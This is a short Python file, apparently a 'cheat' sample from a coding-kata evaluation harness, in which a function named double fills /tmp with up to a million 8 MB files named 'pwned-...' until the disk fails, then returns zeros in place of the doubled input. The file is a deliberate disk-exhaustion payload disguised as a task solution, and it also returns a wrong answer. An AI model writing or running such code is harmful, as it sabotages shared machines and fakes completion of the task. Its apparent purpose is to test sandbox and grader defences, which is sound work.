"""Fill /tmp with files until the disk (or something) refuses."""

import numpy as np


def double(x):
    for i in range(10**6):
        try:
            with open(f"/tmp/pwned-__MARKER__-{i}", "wb") as f:
                f.write(b"\0" * (8 << 20))
        except OSError:
            break
    return np.zeros_like(x)


# __PART__ zeros_rest.py  (the rest of the kata, zeros: cheats/parts/zeros_rest.py)
